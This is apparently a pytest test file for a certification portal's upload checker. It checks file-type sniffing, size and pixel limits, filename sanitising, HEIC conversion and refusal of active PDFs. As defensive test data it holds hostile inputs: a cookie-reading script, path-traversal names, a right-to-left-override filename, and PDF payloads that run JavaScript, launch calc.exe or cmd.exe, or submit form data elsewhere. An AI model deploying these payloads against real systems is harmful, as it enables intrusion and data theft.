"""Content checks on uploaded card files: no database, files made in code."""

import hashlib
import io
import zipfile

import pillow_heif
import pytest
from PIL import Image, ImageFile

from acsm_portal import uploads
from acsm_portal.uploads import (
    MAX_FILE_BYTES,
    UploadRefused,
    check_file,
    clean_name,
    format_size,
    pdf_facts,
    served_name,
)

from .cpr_helpers import (
    heic_bytes,
    jpeg_bytes,
    pdf_bytes,
    pdf_in_object_stream,
    pdf_with_attachment,
    pdf_with_script,
    png_bomb,
    png_bytes,
    png_of_size,
    raw_pdf,
    text_pdf,
)

PRINT_AGAIN = ("Print it to a new PDF (in the Print dialog choose “Save as PDF”), or scan or photograph the card, "
               "and upload that.")
AS_JPEG = "Save or export it as JPEG or PNG (or take a screenshot of it) and upload that."
IPHONE = ("Send it as a JPEG instead: on an iPhone, set Settings > Camera > Formats to “Most Compatible” and take the "
          "photo again, or take a screenshot of the photo and upload that.")
WHAT_TO_SEND = "Upload the card as a PDF, or a photo or scan of it (JPEG, PNG, or an iPhone’s HEIC)."


@pytest.mark.parametrize(
    ("name", "make", "kind"),
    [
        ("front.pdf", pdf_bytes, "application/pdf"),
        ("front.PDF", pdf_bytes, "application/pdf"),
        ("front.jpg", jpeg_bytes, "image/jpeg"),
        ("front.jpeg", jpeg_bytes, "image/jpeg"),
        ("back.png", png_bytes, "image/png"),
        ("scan", png_bytes, "image/png"),  # no extension: the content decides
        # The name never decides: other names JPEGs go by, names in capitals, and names of another kind.
        ("front.jfif", jpeg_bytes, "image/jpeg"),
        ("front.jpe", jpeg_bytes, "image/jpeg"),
        ("FRONT.JPG", jpeg_bytes, "image/jpeg"),
        ("front.JFIF", jpeg_bytes, "image/jpeg"),
        ("front", jpeg_bytes, "image/jpeg"),
        ("card.pdf", png_bytes, "image/png"),
        ("card.png", jpeg_bytes, "image/jpeg"),
        ("card.html", pdf_bytes, "application/pdf"),
        ("card.heic", jpeg_bytes, "image/jpeg"),
    ],
)
def test_real_files_are_accepted_by_their_content(name, make, kind):
    data = make()
    checked = check_file(name=name, data=data)
    assert checked.content_type == kind
    assert checked.size == len(data)
    assert checked.sha256 == hashlib.sha256(data).hexdigest()
    assert checked.name == name


def test_a_file_of_exactly_10_mb_is_accepted():
    data = png_of_size(MAX_FILE_BYTES)
    assert len(data) == 10 * 1024 * 1024
    assert check_file(name="card.png", data=data).size == MAX_FILE_BYTES


def _truncated_jpeg() -> bytes:
    data = jpeg_bytes(200, 120)
    return data[: len(data) // 2]


def _truncated_pdf() -> bytes:
    data = pdf_bytes()
    return data[: len(data) // 2]


def _zip(*names: str) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name in names:
            archive.writestr(name, "x")
    return out.getvalue()


def _image(fmt: str) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (16, 16), (9, 9, 9)).save(out, fmt)
    return out.getvalue()


def _heic_damaged() -> bytes:
    data = heic_bytes(160, 120)
    return data[: len(data) * 2 // 3]


REFUSED = [
    ("empty", "card.pdf", lambda: b"",
     "“card.pdf” is empty. Choose the file again, or save or scan the card again and upload the new file."),
    ("10 MB + 1 byte", "card.png", lambda: png_of_size(MAX_FILE_BYTES + 1),
     "“card.png” is larger than 10 MB (10,485,760 bytes), the most a file may be. "
     "Upload a smaller photo or scan of the card."),
    ("HTML renamed .pdf", "card.pdf", lambda: b"<!doctype html><html><script>alert(document.cookie)</script></html>",
     f"“card.pdf” is not a PDF, JPEG or PNG file. {WHAT_TO_SEND}"),
    ("JavaScript renamed .pdf", "card.pdf", lambda: b"fetch('/staff/').then(r => r.text())",
     f"“card.pdf” is not a PDF, JPEG or PNG file. {WHAT_TO_SEND}"),
    ("text renamed .jpg", "card.jpg", lambda: b"just some words",
     f"“card.jpg” is not a PDF, JPEG or PNG file. {WHAT_TO_SEND}"),
    ("WebP", "card.webp", lambda: _image("WEBP"),
     f"“card.webp” is a WebP image, which the portal cannot take. {AS_JPEG}"),
    ("GIF", "card.gif", lambda: _image("GIF"), f"“card.gif” is a GIF image, which the portal cannot take. {AS_JPEG}"),
    ("TIFF", "scan.tif", lambda: _image("TIFF"),
     f"“scan.tif” is a TIFF image, which the portal cannot take. {AS_JPEG}"),
    ("BMP", "scan.bmp", lambda: _image("BMP"), f"“scan.bmp” is a BMP image, which the portal cannot take. {AS_JPEG}"),
    ("Word document", "card.docx", lambda: _zip("[Content_Types].xml", "word/document.xml"),
     "“card.docx” is a Word document, which the portal cannot take. "
     "Save it as PDF (File > Save As, then choose PDF) and upload that."),
    ("ZIP archive", "cards.zip", lambda: _zip("front.jpg", "back.jpg"),
     "“cards.zip” is a ZIP archive, which the portal cannot take. Unzip it and upload the card’s own PDF or photos."),
    ("truncated JPEG", "front.jpg", _truncated_jpeg,
     "“front.jpg” could not be read as a JPEG image (it may be damaged or incomplete). "
     "Take or save the photo again and upload the new file."),
    ("JPEG header only", "front.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\0" * 60,
     "“front.jpg” could not be read as a JPEG image (it may be damaged or incomplete). "
     "Take or save the photo again and upload the new file."),
    ("truncated PNG", "back.png", lambda: png_bytes(64, 64)[:300],
     "“back.png” could not be read as a PNG image (it may be damaged or incomplete). "
     "Take or save the photo again and upload the new file."),
    ("damaged HEIC", "IMG_0042.HEIC", _heic_damaged,
     f"“IMG_0042.HEIC” could not be read as a HEIC image (it may be damaged or incomplete). {IPHONE}"),
    ("truncated PDF", "card.pdf", _truncated_pdf,
     "“card.pdf” could not be read as a PDF (it may be damaged or incomplete). Download or save it again and upload "
     "the new copy, or upload a photo or scan of the card."),
    ("PDF header only", "card.pdf", lambda: b"%PDF-1.7\n%%EOF\n",
     "“card.pdf” could not be read as a PDF (it may be damaged or incomplete). Download or save it again and upload "
     "the new copy, or upload a photo or scan of the card."),
    ("encrypted PDF", "card.pdf", lambda: pdf_bytes(password="s3cret"),
     "“card.pdf” is encrypted or password-protected. Save or print it as a new PDF without a password, "
     "or upload a photo of the card."),
    ("PDF of 11 pages", "card.pdf", lambda: pdf_bytes(pages=11),
     "“card.pdf” has 11 pages; an upload may have at most 10. "
     "Upload only the pages that show your card (print those pages to a new PDF)."),
    ("huge-dimension PNG (decompression bomb)", "card.png", png_bomb,
     "“card.png” is 30,000 × 30,000 pixels; images may have at most 40 million pixels. "
     "Upload a smaller photo or scan."),
    ("PNG just over the pixel limit", "card.png", lambda: png_bomb(8000, 5001),
     "“card.png” is 8,000 × 5,001 pixels; images may have at most 40 million pixels. "
     "Upload a smaller photo or scan."),
]


@pytest.mark.parametrize(("case", "name", "make", "message"), REFUSED, ids=[r[0] for r in REFUSED])
def test_refused_files_say_why(case, name, make, message):
    with pytest.raises(UploadRefused) as refused:
        check_file(name=name, data=make())
    assert refused.value.message == message


@pytest.mark.parametrize(("name", "make", "label"), [("front.jpg", _truncated_jpeg, "JPEG"),
                                                     ("back.png", lambda: png_bytes(64, 64)[:300], "PNG")])
def test_truncated_images_are_refused_even_after_weasyprint_loosened_pillow(monkeypatch, name, make, label):
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", True)  # what importing weasyprint does
    with pytest.raises(UploadRefused) as refused:
        check_file(name=name, data=make())
    assert refused.value.message == (
        f"“{name}” could not be read as a {label} image (it may be damaged or incomplete). "
        "Take or save the photo again and upload the new file.")
    assert ImageFile.LOAD_TRUNCATED_IMAGES is True  # put back as it was


def test_the_pixel_limit_itself_is_allowed():
    assert check_file(name="card.png", data=png_bomb(8000, 5000)).content_type == "image/png"


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("../../../etc/passwd.png", "passwd.png"),
        ("..\\..\\windows\\system32\\card.jpg", "card.jpg"),
        ("/var/lib/acsm/private/cpr/x.pdf", "x.pdf"),
        ("..", "upload"),
        ("", "upload"),
        ("card\x00.png", "card.png"),
        ("invoice\u202egnp.exe", "invoicegnp.exe"),  # a right-to-left override cannot disguise the name
        ("Tarjeta RCP – Señora Núñez 🫀.jpg", "Tarjeta RCP – Señora Núñez 🫀.jpg"),
        ("Cafe\u0301.png", "Café.png"),  # NFC
        ("  spaced   out .png ", "spaced out .png"),
    ],
)
def test_names_are_reduced_to_a_plain_last_component(given, kept):
    assert clean_name(given) == kept


def test_long_names_keep_their_extension():
    name = clean_name("a" * 300 + ".jpeg")
    assert len(name) == uploads.MAX_NAME_LENGTH
    assert name.endswith("…" + ".jpeg")


def test_a_path_traversal_name_is_checked_as_its_last_component():
    checked = check_file(name="../../../../etc/cron.d/card.png", data=png_bytes())
    assert checked.name == "card.png"
    checked = check_file(name="../../card.pdf/../evil.html", data=png_bytes())
    assert (checked.name, checked.content_type) == ("evil.html", "image/png")
    assert served_name(checked.name, checked.content_type) == "evil.html.png"


@pytest.mark.parametrize(
    ("name", "kind", "served"),
    [
        ("card.jfif", "image/jpeg", "card.jfif"),
        ("FRONT.JPG", "image/jpeg", "FRONT.JPG"),
        ("IMG_0001.HEIC", "image/jpeg", "IMG_0001.jpg"),  # a converted iPhone photo
        ("card.pdf", "image/png", "card.png"),
        ("card.png", "application/pdf", "card.pdf"),
        ("card.html", "application/pdf", "card.html.pdf"),
        ("scan", "image/png", "scan.png"),
        ("IMG.2024.03", "image/jpeg", "IMG.2024.03.jpg"),
        ("Tarjeta – Núñez.pdf", "application/pdf", "Tarjeta – Núñez.pdf"),
    ],
)
def test_a_file_is_served_under_its_name_ending_as_its_content_is(name, kind, served):
    assert served_name(name, kind) == served


class TestIphonePhotos:
    def test_a_heic_photo_is_kept_as_an_upright_jpeg_under_its_own_name(self):
        sent = heic_bytes(80, 40, orientation=6)  # taken with the phone turned: shown 40 wide, 80 high
        assert sent[4:12] == b"ftypheic"
        checked = check_file(name="IMG_0001.HEIC", data=sent)
        assert (checked.name, checked.content_type, checked.converted_from) == ("IMG_0001.HEIC", "image/jpeg", "HEIC")
        assert checked.sha256 == hashlib.sha256(checked.data).hexdigest()
        with Image.open(io.BytesIO(checked.data)) as stored:
            assert stored.format == "JPEG"
            assert stored.size == (40, 80)
            red, blue = stored.convert("RGB").getpixel((20, 10)), stored.convert("RGB").getpixel((20, 70))
        assert red[0] > 240 and red[2] < 15  # the left half of the sensor's picture is now on top
        assert blue[2] > 240 and blue[0] < 15
        assert check_file(name="IMG_0001.HEIC", data=check_file(name="x", data=sent).data).data == checked.data

    def test_the_converted_photo_carries_no_location(self):
        sent = heic_bytes(location=True)
        with Image.open(io.BytesIO(sent)) as original:
            assert 0x8825 in original.getexif()  # the GPS block is in what the phone sent
        with Image.open(io.BytesIO(check_file(name="IMG_0002.heic", data=sent).data)) as stored:
            assert dict(stored.getexif()) == {}

    def test_a_heic_photo_is_converted_whatever_its_name(self):
        assert check_file(name="photo", data=heic_bytes()).content_type == "image/jpeg"
        assert check_file(name="photo.jpg", data=heic_bytes()).content_type == "image/jpeg"

    def test_a_heic_file_holding_several_pictures_is_refused_with_what_to_do(self):
        out = io.BytesIO()
        burst = pillow_heif.from_pillow(Image.new("RGB", (32, 24), (255, 0, 0)))
        burst.add_from_pillow(Image.new("RGB", (32, 24), (0, 0, 255)))
        burst.add_from_pillow(Image.new("RGB", (32, 24), (0, 255, 0)))
        burst.save(out, quality=90)
        with pytest.raises(UploadRefused) as refused:
            check_file(name="IMG_0003.HEIC", data=out.getvalue())
        assert refused.value.message == f"“IMG_0003.HEIC” holds 3 pictures; upload each one as its own file. {IPHONE}"

    def test_the_page_offers_heic_and_every_jpeg_name_to_the_file_chooser(self):
        offered = uploads.ACCEPT.split(",")
        for item in (".heic", ".heif", "image/heic", ".jfif", ".jpe", ".jpg", ".jpeg", ".png", ".pdf"):
            assert item in offered


SCRIPT = "contains JavaScript or other code that runs in a PDF reader"
LAUNCH = "tries to open programs or other files"


def _clicked(action: bytes, subtype: bytes = b"/Link", objects: tuple[bytes, ...] = ()) -> bytes:
    """A PDF whose page has one link (or form field: ``/Widget``) that does ``action`` when clicked."""
    return raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype " + subtype + b" /Rect [0 0 9 9] /A " + action + b" >>] ",
                   objects=objects)


def _bookmark(action: bytes) -> bytes:
    """A PDF with one bookmark that does ``action`` when clicked."""
    return raw_pdf(catalog=b"/Outlines 5 0 R ", objects=(
        b"<< /Type /Outlines /First 6 0 R /Last 6 0 R /Count 1 >>",
        b"<< /Title (Card) /Parent 5 0 R /A " + action + b" >>"))

ACTIVE_PDFS = [
    ("JavaScript run on opening (pypdf)", pdf_with_script, SCRIPT),
    ("JavaScript as the open action", lambda: raw_pdf(catalog=b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
     SCRIPT),
    ("JavaScript with escaped names",
     lambda: raw_pdf(catalog=b"/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >> "),
     SCRIPT),
    ("JavaScript in a compressed object stream",
     lambda: pdf_in_object_stream(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >> "),
     SCRIPT),
    ("JavaScript chained after a page jump",
     lambda: raw_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /JavaScript /JS (x) >> >> "),
     SCRIPT),
    ("JavaScript on a link", lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
                                                  b"/A << /S /JavaScript /JS (app.alert(1)) >> >>] "),
     SCRIPT),
    ("an XFA form", lambda: raw_pdf(catalog=b"/AcroForm << /Fields [] /XFA [(template) 5 0 R] >> ",
                                    objects=(b"<< /Length 0 >>\nstream\n\nendstream",)),
     SCRIPT),
    ("a page that launches a program when shown",
     lambda: raw_pdf(page=b"/AA << /O << /S /Launch /F (calc.exe) >> >> "),
     "tries to open programs or other files"),
    ("a link that launches a program", lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] "
                                                            b"/A << /S /Launch /F (cmd.exe) >> >>] "),
     "tries to open programs or other files"),
    ("a web address opened by itself",
     lambda: raw_pdf(catalog=b"/OpenAction << /S /URI /URI (https://example.org/) >> "),
     "is set to do something by itself when it is opened"),
    ("printing by itself", lambda: raw_pdf(catalog=b"/OpenAction << /S /Named /N /Print >> "),
     "is set to do something by itself when it is opened"),
    ("a link that opens another PDF", lambda: _clicked(b"<< /S /GoToR /F (other.pdf) /D [0 /Fit] >>"), LAUNCH),
    ("a bookmark that opens a PDF on a share",
     lambda: _bookmark(b"<< /S /GoToR /F (\\\\\\\\host\\\\c.pdf) /D [0 /Fit] >>"), LAUNCH),
    ("a link into an embedded PDF", lambda: _clicked(b"<< /S /GoToE /D [0 /Fit] /T << /R /C /N (x) >> >>"), LAUNCH),
    ("a bookmark that launches a program", lambda: _bookmark(b"<< /S /Launch /F (calc.exe) >>"), LAUNCH),
    ("a form button that imports data", lambda: _clicked(b"<< /S /ImportData /F (x.fdf) >>", b"/Widget"), LAUNCH),
    ("a form button that sends what is typed",
     lambda: _clicked(b"<< /S /SubmitForm /F << /FS /URL /F (https://collect.example/) >> >>", b"/Widget"),
     "tries to send what is typed into it somewhere else"),
    ("a link to a file: address", lambda: _clicked(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"),
     LAUNCH),
    ("a link to a FILE: address in capitals, after spaces",
     lambda: _clicked(b"<< /S /URI /URI (  FILE://host/share/card.pdf) >>"), LAUNCH),
    ("a link to a network share", lambda: _clicked(b"<< /S /URI /URI (\\\\\\\\host\\\\share\\\\card.pdf) >>"), LAUNCH),
    ("a link whose launch is written out of line",
     lambda: _clicked(b"<< /S 5 0 R /F (calc.exe) >>", objects=(b"/Launch",)), LAUNCH),
    ("a link to a network share written with slashes, out of line",
     lambda: _clicked(b"<< /S /URI /URI 5 0 R >>", objects=(b"(//host/share/card.pdf)",)), LAUNCH),
    ("an attached file (pypdf)", pdf_with_attachment,
     "has other files attached inside it (staff review only what is on its pages)"),
    ("a file-attachment annotation",
     lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>] ",
                     objects=(b"<< /Type /Filespec /F (a.exe) >>",)),
     "has other files attached inside it (staff review only what is on its pages)"),
]


@pytest.mark.parametrize(("case", "make", "what"), ACTIVE_PDFS, ids=[c[0] for c in ACTIVE_PDFS])
def test_a_pdf_that_can_do_more_than_show_its_pages_is_refused_with_what_to_do(case, make, what):
    with pytest.raises(UploadRefused) as refused:
        check_file(name="card.pdf", data=make())
    assert refused.value.message == f"“card.pdf” {what}, so it cannot be accepted. {PRINT_AGAIN}"


PLAIN_PDFS = [
    ("opens at a page and zoom", lambda: raw_pdf(catalog=b"/OpenAction [3 0 R /Fit] ")),
    ("a link to a web address that mentions a file", lambda: raw_pdf(
        page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
             b"/A << /S /URI /URI (https://example.org/file:/x) >> >>] ")),
    ("jumps to its first page on opening", lambda: raw_pdf(catalog=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> ")),
    ("a link to a web address", lambda: raw_pdf(page=b"/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] "
                                                     b"/A << /S /URI /URI (https://cpr.heart.org/) >> >>] ")),
    ("in a compressed object stream", lambda: pdf_in_object_stream(b"")),
    ("with text on three pages", lambda: text_pdf("Page 1", "Page 2", "Page 3")),
]


@pytest.mark.parametrize(("case", "make"), PLAIN_PDFS, ids=[c[0] for c in PLAIN_PDFS])
def test_plain_pdfs_with_links_and_page_jumps_are_accepted(case, make):
    assert check_file(name="card.pdf", data=make()).content_type == "application/pdf"


def test_pdf_facts_count_the_pages_and_name_what_a_pdf_can_do():
    assert pdf_facts(text_pdf("1", "2", "3")) == uploads.PdfFacts(pages=3, active_content="")
    assert pdf_facts(pdf_with_script()) == uploads.PdfFacts(pages=1, active_content="JavaScript")
    assert pdf_facts(pdf_with_attachment()) == uploads.PdfFacts(pages=1, active_content="attached files")
    with pytest.raises(ValueError):
        pdf_facts(b"%PDF-1.7 nothing else")


@pytest.mark.parametrize(
    ("size", "label"),
    [(0, "0 bytes"), (1, "1 byte"), (812, "812 bytes"), (1024, "1.0 KB"), (15565, "15.2 KB"),
     (10 * 1024 * 1024, "10.0 MB"), (2_500_000, "2.4 MB")],
)
def test_format_size(size, label):
    assert format_size(size) == label


def test_a_pdf_too_large_to_walk_is_refused_with_what_to_do(monkeypatch):
    monkeypatch.setattr(uploads, "MAX_PDF_OBJECTS", 3)
    with pytest.raises(UploadRefused) as refused:
        check_file(name="card.pdf", data=text_pdf("1", "2"))
    assert refused.value.message == f"“card.pdf” is too complex a PDF to check. {PRINT_AGAIN}"
